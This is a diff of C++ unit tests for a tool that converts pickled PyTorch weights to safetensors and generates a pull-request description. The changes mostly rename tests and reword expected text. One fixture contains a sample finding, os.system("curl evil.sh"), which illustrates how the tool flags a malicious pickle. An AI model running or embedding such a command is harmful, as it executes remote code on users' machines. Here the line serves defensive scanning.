@@ -25,20 +25,20 @@ Description given() {
       .named = {.inert = {"torch._utils._rebuild_tensor_v2"}, .findings = {}}};
 }
 
-TEST(Description, Carries_the_evidence_and_how_to_see_it_again) {
+TEST(Description, Contains_the_evidence_and_how_to_verify_it) {
   EXPECT_EQ(to_markdown(given()),
       R"(This adds `model.safetensors`, converted from the pickled weights of commit `0123456789ab` by )"
       R"(depickle 0.1.0. Nothing else changes.
 
 **4 of 4 tensors are identical to the pickle's.** Each new file was read )"
-      R"(back from the disk and compared with its source, tensor by tensor. The pickles were read, never run.
+      R"(back from the disk and compared with its source, tensor by tensor. The pickles were parsed, not executed.
 
 | file | bytes | sha256 |
 |---|---:|---|
 | `model.safetensors` | 1,000 | `aaaa` |
 | from `pytorch_model.bin` | 1,200 | `bbbb` |
 
-What the pickles name only builds tensors and plain containers: `torch._utils._rebuild_tensor_v2`.
+All globals of the pickles only build tensors and plain containers: `torch._utils._rebuild_tensor_v2`.
 
 Load it before it is merged:
 
@@ -48,7 +48,7 @@ from transformers import AutoModel
 model = AutoModel.from_pretrained("org/name", revision="refs/pr/7", use_safetensors=True)
 ```
 
-Check every tensor again, without trusting this text:
+Verify every tensor yourself:
 
 ```
 depickle check org/name 7
@@ -56,7 +56,7 @@ depickle check org/name 7
 )");
 }
 
-TEST(Description, Loads_a_pipeline_as_one_and_other_libraries_by_file) {
+TEST(Description, Shows_how_to_load_a_pipeline_and_models_of_other_libraries) {
   Description pipeline = given(), other = given();
   pipeline.is_pipeline = true;
   other.library = "timm";
@@ -66,20 +66,20 @@ TEST(Description, Loads_a_pipeline_as_one_and_other_libraries_by_file) {
       HasSubstr("load_file(hf_hub_download(\"org/name\", \"model.safetensors\", revision=\"refs/pr/7\"))"));
 }
 
-TEST(Description, Says_what_a_pickle_would_have_run_and_what_was_left_out) {
+TEST(Description, Lists_what_a_pickle_would_execute_and_what_was_skipped) {
   Description d = given();
   d.named.findings = {"pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command"};
   d.tied = {{"lm_head.weight", "wte.weight"}};
   d.left = {{"optimizer.pt", "optimizer state"}};
-  d.left_in_files = {"epoch (int 3)"};
+  d.unused = {"epoch (int 3)"};
   const std::string text = to_markdown(d);
   EXPECT_THAT(text, HasSubstr("- `pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command`\n"));
   EXPECT_THAT(text, HasSubstr("- Tied tensors, stored once: `lm_head.weight` is `wte.weight`\n"));
-  EXPECT_THAT(text, HasSubstr("- In the pickles, but no weights: `epoch (int 3)`\n- Files that were not converted: "
+  EXPECT_THAT(text, HasSubstr("- In the pickles, but not weights: `epoch (int 3)`\n- Files that were not converted: "
                               "`optimizer.pt` (optimizer state)\n"));
 }
 
-TEST(Description, Folds_in_a_small_receipt_and_no_large_one) {
+TEST(Description, Includes_the_receipt_only_if_it_is_small) {
   Description d = given();
   d.receipt = "{}";
   EXPECT_THAT(to_markdown(d), HasSubstr("<details><summary>Receipt</summary>\n\n```json\n{}\n```\n\n</details>\n"));
@@ -87,9 +87,7 @@ TEST(Description, Folds_in_a_small_receipt_and_no_large_one) {
   EXPECT_THAT(to_markdown(d), Not(HasSubstr("<details>")));
 }
 
-TEST(Description, Does_not_let_names_break_out_of_their_quotes) {
-  EXPECT_EQ(markdown_code("a`b|c\nd"), "`a'b\\|c\\nd`");
-}
+TEST(Description, Escapes_names) { EXPECT_EQ(markdown_code("a`b|c\nd"), "`a'b\\|c\\nd`"); }
 
 }  // namespace
 }  // namespace depickle::repo
